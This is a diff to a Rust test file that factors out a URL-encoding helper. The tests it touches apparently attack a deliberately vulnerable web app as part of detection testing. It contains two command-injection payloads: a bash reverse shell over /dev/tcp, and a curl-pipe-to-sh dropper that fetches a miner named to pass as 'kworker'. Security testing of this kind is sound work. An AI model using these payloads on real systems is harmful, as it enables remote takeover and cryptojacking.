@@ -146,6 +146,19 @@ fn wait_ready(host: &str, port: u16, path: &str) {
     panic!("{host}:{port}{path} never answered");
 }
 
+/// Percent-encodes everything but RFC 3986's unreserved characters (for a query value).
+fn url_encode(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
 fn loud(findings: &[Value]) -> Vec<&Value> {
     findings
         .iter()
@@ -187,16 +200,7 @@ fn vulnerable_web_app_reverse_shell_through_command_injection() {
         String::from_utf8_lossy(&got).into_owned()
     });
     let payload = format!("x;bash -c 'bash -i >& /dev/tcp/{gateway}/{port} 0>&1'");
-    let encoded: String = payload
-        .bytes()
-        .map(|b| {
-            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
-                (b as char).to_string()
-            } else {
-                format!("%{b:02X}")
-            }
-        })
-        .collect();
+    let encoded = url_encode(&payload);
     let _ = get(&ip, 8080, &format!("/lookup?name={encoded}"));
     let session = attacker.join().unwrap();
     assert!(session.contains('0'), "the reverse shell did not run `id -u`: {session:?}");
@@ -330,16 +334,7 @@ fn dropped_miner_through_command_injection() {
     .into_bytes();
     let server = serve_files(listener, vec![("/d.sh", dropper), ("/kworker", miner)], 2);
     let payload = format!("x;curl -s {base}/d.sh | sh");
-    let encoded: String = payload
-        .bytes()
-        .map(|b| {
-            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
-                (b as char).to_string()
-            } else {
-                format!("%{b:02X}")
-            }
-        })
-        .collect();
+    let encoded = url_encode(&payload);
     let _ = get(&ip, 8080, &format!("/lookup?name={encoded}"));
     let served = server.join().unwrap();
     assert_eq!(served, vec!["/d.sh", "/kworker"], "the dropper did not fetch both stages");
